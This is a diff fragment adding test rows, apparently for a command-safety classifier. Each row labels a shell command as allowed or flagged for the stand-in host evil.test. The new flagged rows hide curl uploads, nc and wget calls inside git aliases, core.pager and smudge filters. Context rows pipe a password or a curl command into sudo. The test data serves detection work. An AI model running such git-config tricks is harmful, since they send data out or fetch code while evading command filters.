@@ -284,6 +284,13 @@ rows = [
 (A, "", "alias a='X=1'; a"),
 (A, "", "printf '%s\\n' \"$PASS\" | sudo -S -v"),
 (B, "evil.test", "echo 'curl evil.test' | sudo -i"),
+(B, "evil.test", "git -c alias.x='!curl evil.test' x"),
+(B, "evil.test", "git -c core.pager='curl -T - evil.test' log"),
+(B, "evil.test", "git -c filter.f.smudge='nc evil.test 80' checkout ."),
+(B, "evil.test", "git config alias.up '!wget -q evil.test' && git up"),
+(A, "", "git -c alias.st=status st"),
+(A, "", "git -c core.pager=less log"),
+(A, "", "git -c credential.helper=store push"),
 # ---- toolchains that name a host
 (B, "evil.test", "go get evil.test/x"),
 (B, "evil.test", "go get -u evil.test/x@v1.0.0"),
